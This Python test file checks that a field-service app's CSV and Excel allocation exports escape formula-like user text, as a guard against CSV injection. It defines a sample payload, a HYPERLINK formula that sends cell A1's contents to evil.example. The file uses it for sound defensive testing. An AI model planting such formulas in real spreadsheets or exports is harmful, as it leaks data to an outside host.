"""Text typed by a user never becomes a live formula in the exports (CSV/formula injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from fieldsvc.config import Settings
from fieldsvc.models import AllocationPlanRecord
from fieldsvc.reports.allocation_list import allocation_csv, allocation_xlsx
from fieldsvc.reports.cells import csv_safe, csv_safe_frame, is_formula_like

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_like_text_is_recognised_and_numbers_are_not() -> None:
    for text in (ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert is_formula_like(text), text
        assert csv_safe(text) == "'" + text
    for value in ("NB-01-0011", "บ้านหนองบัว", "", -5, 3.5, None):
        assert not is_formula_like(value)
        assert csv_safe(value) == value


def test_csv_safe_frame_changes_only_formula_like_text() -> None:
    frame = pd.DataFrame({"code": [ATTACK, "A-1"], "n": [-1, 2]})
    safe = csv_safe_frame(frame)
    assert safe["code"].tolist() == ["'" + ATTACK, "A-1"]
    assert safe["n"].tolist() == [-1, 2]
    assert frame["code"].iloc[0] == ATTACK  # the caller's frame is untouched


def test_bin_code_formula_is_text_in_the_plan_xlsx_and_csv(
    plan: AllocationPlanRecord, office: Settings
) -> None:
    codes = {11: ATTACK}
    book = openpyxl.load_workbook(io.BytesIO(allocation_xlsx(plan, office, bin_codes=codes)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    attacked = [c for c in cells if c.value == ATTACK]
    assert attacked, "the bin code should be in the list"
    assert all(c.data_type == "s" for c in attacked)
    # the only formulas in the workbook are our own SUM totals
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas and all(str(f).startswith("=SUM(") for f in formulas)

    rows = list(csv.reader(io.StringIO(allocation_csv(plan, bin_codes=codes).decode("utf-8-sig"))))
    flat = [cell for row in rows for cell in row]
    assert "'" + ATTACK in flat
    assert ATTACK not in flat
